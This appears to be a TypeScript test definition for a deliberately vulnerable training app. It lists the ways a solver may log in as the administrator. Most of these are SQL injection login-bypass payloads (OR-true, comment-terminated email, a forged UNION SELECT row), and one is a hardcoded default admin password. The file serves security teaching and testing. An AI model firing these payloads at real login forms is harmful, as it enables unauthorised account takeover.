import { defineWays } from '#game/define.ts'
import { waysToCustomer } from '#game/testing/common-ways.ts'
import { logInBy } from '#game/visitor/requests.ts'

const { otherWays, mishaps } = waysToCustomer(1, 'admin')

export default defineWays({
  otherWays: {
    ...otherWays,
    'the pattern of the tutorial': (visitor) => logInBy(visitor, "' OR true--"),
    'a pattern without blanks': (visitor) => logInBy(visitor, "'OR/**/1=1--"),
    'his address with a quote behind it': async (visitor) => logInBy(visitor, `admin@${await visitor.domain()}'--`),
    'a comment with a star': async (visitor) => logInBy(visitor, `admin@${await visitor.domain()}'/*`),
    'the real password': async (visitor) => visitor.login(`admin@${await visitor.domain()}`, 'admin123'),
  },
  mishaps: {
    ...mishaps,
    'a made-up row that borrows the address': [
      200,
      async (visitor) =>
        logInBy(
          visitor,
          `' UNION SELECT 20,'','admin@${await visitor.domain()}','x','customer','','','','',1,'2020-01-01','2020-01-01',NULL--`,
        ),
    ],
  },
  companions: ['weakPasswordChallenge'],
})
